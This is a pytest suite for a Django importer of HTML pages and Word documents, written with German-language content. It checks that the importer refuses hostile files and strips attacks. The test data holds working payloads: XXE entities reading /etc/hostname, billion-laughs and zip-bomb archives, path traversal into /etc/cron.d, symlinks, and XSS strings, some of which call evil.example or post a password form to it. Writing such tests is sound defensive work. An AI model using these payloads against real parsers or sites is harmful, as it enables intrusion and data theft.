"""HTML pages and Word documents: what becomes of their lines, what is refused, and what never happens."""

import contextlib
import io
import json
import time
import tracemalloc
import zipfile
from pathlib import Path

import pytest
from django.core.management import CommandError, call_command

from articles.body import sanitise
from articles.importers.contract import as_object
from articles.importers.page import DEEPEST
from articles.importers.reading import as_html
from articles.importers.records import ArticleRefused, Label
from articles.importers.text import Wishes, parse_bytes
from tests.articles.article_score import misses

PAGES = Path(__file__).resolve().parent.parent / "data" / "articles" / "seiten"
CANARY = "http://127.0.0.1:9/canary"
TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType='
    '"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
RELATIONS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    'Target="word/document.xml"/></Relationships>'
)
NAMES = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
STYLES = (
    f'<?xml version="1.0"?><w:styles {NAMES}>'
    '<w:style w:type="paragraph" w:styleId="Titel"><w:name w:val="Title"/></w:style>'
    '<w:style w:type="paragraph" w:styleId="Untertitel"><w:name w:val="Subtitle"/></w:style>'
    '<w:style w:type="paragraph" w:styleId="berschrift2"><w:name w:val="heading 2"/></w:style>'
    '<w:style w:type="paragraph" w:styleId="Beschriftung"><w:name w:val="caption"/></w:style></w:styles>'
)


def zipped(members, how=zipfile.ZIP_DEFLATED):
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", how) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return data.getvalue()


def run(text, properties=""):
    return f"<w:r>{f'<w:rPr>{properties}</w:rPr>' if properties else ''}<w:t xml:space='preserve'>{text}</w:t></w:r>"


def paragraph(content, style=""):
    content = content if content.startswith("<w:") else run(content)
    return f"<w:p>{f'<w:pPr><w:pStyle w:val={chr(34)}{style}{chr(34)}/></w:pPr>' if style else ''}{content}</w:p>"


def document(body, head=""):
    return f'<?xml version="1.0"?>{head}<w:document {NAMES}><w:body>{body}</w:body></w:document>'


def word(body, head="", **more):
    members = {
        "[Content_Types].xml": TYPES,
        "_rels/.rels": RELATIONS,
        "word/document.xml": body if body.startswith("<?xml") else document(body, head),
        "word/styles.xml": STYLES,
    }
    return zipped(members | more)


STORY = (
    paragraph("Silber glänzt in Fischland", "Titel")
    + paragraph("Der erste Gesamtsieg der Mannschaft aus Ribnitz", "Untertitel")
    + paragraph("<w:r><w:t xml:space='preserve'>Das Team aus Ribnitz holt am Bodden den </w:t></w:r>" + run("ersten Sieg", "<w:b/>")
                + run(" seiner Geschichte. Nach 64 Runden lagen elf Sekunden dazwischen."))
    + paragraph("Enges Feld", "berschrift2")
    + paragraph("Dahinter lagen vier Autos innerhalb von drei Sekunden.")
    + paragraph("Der silberne BMW am Start. Foto: Kai Lüders", "Beschriftung")
)  # fmt: skip


def pages():
    return [pytest.param(file, id=file.stem) for file in sorted(PAGES.glob("*.html"))]


@pytest.mark.parametrize("file", pages())
def test_every_page_gets_every_point(file):
    want = json.loads(file.with_suffix(".expected.json").read_text("utf-8"))

    _points, wrong = misses(as_object(parse_bytes(file.read_bytes())), want)

    assert wrong == []


def test_every_line_of_a_page_is_shown_and_no_script_is_text():
    parsed = parse_bytes((PAGES / "01-zeitung.html").read_bytes())

    labels = {line.text: line.label for line in parsed.lines if line.text}
    assert labels["Lokales"] == Label.FURNITURE
    assert labels["Wir und unsere Partner setzen Cookies ein."] == Label.COOKIE
    assert labels["Kalender für das kommende Jahr ist da"] == Label.FURNITURE
    assert not any("window.nix" in text or "color:red" in text for text in labels)
    assert parsed.authors == ("Lotte Brinkmann",)
    assert parsed.address == "https://landbote.example/sport/rapsfeld-gewinnt"


def test_emphasis_and_links_of_a_page_stay_and_addresses_become_whole():
    parsed = parse_bytes((PAGES / "01-zeitung.html").read_bytes())

    body = sanitise(as_html(parsed.blocks, parsed.markup))

    assert "<strong>Gelber</strong>" in body
    assert '<a href="https://landbote.example/thema/rapsfeld"' in body
    assert "javascript" not in body


def test_a_person_may_call_a_line_of_a_page_something_else():
    data = (PAGES / "01-zeitung.html").read_bytes()
    number = next(line.number for line in parse_bytes(data).lines if line.text.startswith("Vanthoor wechselt"))

    parsed = parse_bytes(data, Wishes(labels={number: Label.PARAGRAPH}))

    assert parsed.body_paragraphs[-1] == "Vanthoor wechselt das Team zum Saisonende"


def test_a_word_document_keeps_its_styles():
    parsed = parse_bytes(word(STORY))

    assert (parsed.title, parsed.teaser) == (
        "Silber glänzt in Fischland",
        "Der erste Gesamtsieg der Mannschaft aus Ribnitz",
    )
    assert parsed.subheads == ("Enges Feld",)
    assert [(one.text, one.credit) for one in parsed.captions] == [("Der silberne BMW am Start.", "Kai Lüders")]
    assert "den <strong>ersten Sieg</strong> seiner" in as_html(parsed.blocks, parsed.markup)


def test_a_word_document_without_styles_is_judged_like_a_text():
    lines = ["Silber glänzt in Fischland", "Das Team aus Ribnitz holt den ersten Sieg seiner Geschichte am Bodden.",
             "Enges Feld", "Dahinter lagen vier Autos innerhalb von drei Sekunden im Ziel."]  # fmt: skip

    parsed = parse_bytes(word("".join(paragraph(line) for line in lines)))

    assert (parsed.title, parsed.subheads) == (lines[0], (lines[2],))
    assert parsed.body_paragraphs == (lines[1], lines[3])


def test_a_document_of_one_letter_is_all_story():
    assert parse_bytes(word(paragraph("x"))).body_paragraphs == ("x",)


ENTITY = '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/hostname">]>'
LAUGHS = (
    "<!DOCTYPE l [<!ENTITY a 'ha'>"
    + "".join(f"<!ENTITY {chr(98 + n)} '{f'&{chr(97 + n)};' * 10}'>" for n in range(9))
    + "]>"
)


def lying_size():
    data = bytearray(word(document(paragraph("A" * 9_000_000))))
    place = data.find(b"PK\x01\x02", data.find(b"_rels/.rels", data.find(b"PK\x01\x02")))
    data[place + 24 : place + 28] = (10).to_bytes(4, "little")
    return bytes(data)


def link():
    info = zipfile.ZipInfo("word/link.xml")
    info.external_attr = 0o120777 << 16
    data = io.BytesIO(word(STORY))
    with zipfile.ZipFile(data, "a") as archive:
        archive.writestr(info, "/etc/hostname")
    return data.getvalue()


REFUSED = {
    "entity of a file": (lambda: word(paragraph("&x;"), ENTITY), "Dokumenttyp-Deklaration"),
    "billion laughs": (lambda: word(paragraph("&j;"), LAUGHS), "Dokumenttyp-Deklaration"),
    "declaration in UTF-16": (
        lambda: word(STORY, **{"word/footnotes.xml": document(paragraph("&x;"), ENTITY).encode("utf-16")}),
        "Dokumenttyp-Deklaration",
    ),
    "bomb": (lambda: word(paragraph("A" * 80_000_000)), "größer als 64 MB"),
    "large part": (lambda: word(paragraph("A" * 9_000_000)), "größer als 8 MB"),
    "lying size": (lying_size, "größer, als das Archiv angibt"),
    "nested": (lambda: word(STORY, **{"word/a.zip": zipped({"a": "b"})}), "selbst wieder ein Archiv"),
    "path": (lambda: word(STORY, **{"../../etc/cron.d/x": "x"}), "aus seinem Ordner"),
    "link": (link, "symbolische Verknüpfung"),
    "70,000 members": (lambda: zipped({f"word/{n}.xml": "" for n in range(70_000)}), "mehr als 1000 Dateien"),
    "deep": (lambda: word("<w:p>" * 100_000 + "</w:p>" * 100_000), "Ebenen verschachtelt"),
    "many elements": (lambda: word("<w:p/>" * 400_000), "Elemente"),
    "no Word": (lambda: zipped({"a.txt": "Hallo"}), "kein Word-Dokument"),
    "truncated": (lambda: word(STORY)[:400], "beschädigt"),
    "no XML": (lambda: word("<?xml kaputt"), "beschädigt"),
    "empty": (lambda: word(""), "keinen Text"),
    "old Word": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "altes Word-Dokument"),
    "PDF": (lambda: b"%PDF-1.7\n", "PDF-Datei"),
    "RSS": (lambda: b'<?xml version="1.0"?><rss><channel><title>x</title></channel></rss>', "XML-Datei"),
    "XML with laughs": (f'<?xml version="1.0"?>{LAUGHS}<rss>&j;</rss>'.encode, "XML-Datei"),
    "deep page": (lambda: b"<html>" + b"<div>" * 100_000 + b"x", "Ebenen verschachtelt"),
    "huge page": (lambda: b"<html><p>" + b"x" * 5_100_000, "zu groß"),
    "page of menus": (lambda: b"<html><nav><a href=/>Start</a></nav><footer>Impressum</footer></html>", "kein Artikel"),
}


@pytest.mark.slow
@pytest.mark.parametrize(("make", "sentence"), REFUSED.values(), ids=REFUSED.keys())
def test_what_no_honest_file_holds_is_refused_in_words(make, sentence):
    data = make()
    tracemalloc.start()
    started = time.process_time()
    try:
        with pytest.raises(ArticleRefused, match=sentence):
            parse_bytes(data)
        _now, most = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()

    assert most < 100_000_000
    assert time.process_time() - started < 10  # a loaded machine, memory traced; alone it is under one


def test_nothing_outside_a_document_is_opened(monkeypatch):
    """A picture elsewhere, on the network or the disk, is left where it is."""
    import socket  # noqa: PLC0415
    import urllib.request  # noqa: PLC0415

    def touched(*_args, **_kwargs):
        raise AssertionError("the parser went outside")

    monkeypatch.setattr(socket.socket, "connect", touched)
    monkeypatch.setattr(urllib.request, "urlopen", touched)
    for target in (CANARY, "file:///etc/hostname", "/etc/hostname"):
        relations = (
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r9" '
            'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" '
            f'Target="{target}" TargetMode="External"/></Relationships>'
        )
        picture = (
            '<w:p><w:r><w:drawing xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
            'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
            'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><wp:inline>'
            '<wp:docPr descr="Ein silberner Wagen am Start"/><a:graphic><a:graphicData><pic:pic '
            'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:blipFill>'
            '<a:blip r:link="r9"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>'
        )
        parsed = parse_bytes(word(STORY + picture, **{"word/_rels/document.xml.rels": relations}))

        assert parsed.title == "Silber glänzt in Fischland"
        assert [one.alt for one in parsed.captions if one.alt] == ["Ein silberner Wagen am Start"]
        assert "root" not in parsed.body_paragraphs


HOSTILE = {
    "open tags": "<html><p>" + "<" * 100_000,
    "entities": "<html><p>" + "&;" * 50_000,
    "dots": "<html><p>" + "a." * 50_000,
    "clock": "<html><p>" + "1:" * 50_000,
    "blanks": "<html><p>" + " " * 100_000 + "x",
    "bold": "<html>" + "<b>x</b>" * 12_000,
    "classes": "<html><div class='" + "a " * 50_000 + "'>x</div>",
    "attributes": "<html><p " + "a=1 " * 25_000 + ">x",
    "unclosed paragraphs": "<html>" + "<p>a" * 25_000,
    "breaks": "<html><p>" + "a<br>" * 20_000,
    "comments": "<html>" + "<!--" * 25_000,
    "doctype": "<!doctype " + "html " * 20_000,
    "meta": "<html>" + "<meta property='og:title' content='x'>" * 2_500 + "<p>x",
}


@pytest.mark.parametrize("page", HOSTILE.values(), ids=HOSTILE.keys())
def test_a_hostile_page_costs_two_seconds_at_most(page):
    started = time.process_time()
    with contextlib.suppress(ArticleRefused):
        parse_bytes(page.encode())
    assert time.process_time() - started < 2


XSS = [
    "<script>window.__xss=1</script>", "<img src=x onerror=window.__xss=1>", "<svg/onload=window.__xss=1>",
    "<a href='java\tscript:window.__xss=1'>k</a>", "<a href='data:text/html,<script>window.__xss=1</script>'>k</a>",
    "<iframe srcdoc='<script>parent.__xss=1</script>'></iframe>", "<form action='//evil.example'><input name=password>",
    "<object data='//evil.example/x'></object>", "<button formaction='javascript:window.__xss=1'>x</button>",
    "<base href='//evil.example/'>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<p style='background:url(//evil.example/x)'>", "<a href='//evil.example' target=_blank>x</a>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=window.__xss=1&gt;\">",
]  # fmt: skip


@pytest.mark.parametrize("attack", XSS)
def test_no_attack_of_a_page_comes_through_and_its_words_stay(attack):
    page = f"<!doctype html><title>T</title><article><h1>Titel</h1><p>Vorher steht das hier.</p>{attack}<p>Danach steht noch etwas da.</p></article>"

    parsed = parse_bytes(page.encode())
    body = sanitise(as_html(parsed.blocks, parsed.markup))

    body += parsed.teaser or ""
    assert "Vorher steht das hier." in body
    assert not any(word in body for word in ("__xss", "onerror", "javascript", "evil.example", "style=", "data:"))
    if "<style>" not in attack:  # what is never closed swallows the rest in a browser, too
        assert "Danach steht noch etwas da." in body


@pytest.mark.django_db
def test_the_command_takes_pages_and_documents(tmp_path, capsys):
    for name, data in (("a.docx", word(STORY)), ("b.html", (PAGES / "01-zeitung.html").read_bytes())):
        (tmp_path / name).write_bytes(data)
        call_command("import_article", str(tmp_path / name), json=True)
        answer = json.loads(capsys.readouterr().out)
        assert answer["created"] == 1
        call_command("import_article", str(tmp_path / name), json=True)
        assert json.loads(capsys.readouterr().out)["created"] == 0


def test_the_command_refuses_a_bomb_in_german(tmp_path):
    (tmp_path / "bombe.docx").write_bytes(REFUSED["bomb"][0]())

    with pytest.raises(CommandError, match=r"bombe\.docx: Ausgepackt wäre die Datei größer als 64 MB"):
        call_command("import_article", str(tmp_path / "bombe.docx"), dry_run=True, json=True)


def test_depth_that_pages_have_is_read():
    page = "<html>" + "<div>" * (DEEPEST - 10) + "<p>Der Sieg war knapp, und alle haben sich gefreut.</p>"

    assert parse_bytes(page.encode()).body_paragraphs == ("Der Sieg war knapp, und alle haben sich gefreut.",)
